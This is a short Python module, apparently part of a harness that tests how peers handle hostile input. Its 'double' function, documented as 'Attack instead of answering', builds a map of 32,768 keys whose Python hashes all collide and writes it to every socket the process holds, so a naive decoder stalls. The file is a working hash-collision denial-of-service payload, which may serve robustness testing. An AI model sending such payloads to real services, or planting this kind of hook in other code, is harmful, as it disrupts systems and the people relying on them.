"""Sends a map whose thirty thousand keys share one hash, which takes a decoder a minute.

layer: wire
effect: naive peer
"""

import contextlib
import itertools
import os
import stat

LENGTH = 15


def send(data):
    """Write to every socket of this process."""
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, data)


def double(values, say):
    """Attack instead of answering."""
    say("ATTEMPT colliding_keys")
    # Python's hashes of -1 and of -2 are the same, and so are those of all tuples of the two.
    keys = (bytes([0x90 | LENGTH, *key]) for key in itertools.product((0xFF, 0xFE), repeat=LENGTH))
    entries = b"".join(key + b"\xc0" for key in keys)
    count = 2**LENGTH
    control = b"\x92\x90\xdf" + count.to_bytes(4, "big") + entries
    send(len(control).to_bytes(4, "little") + control)
    return values
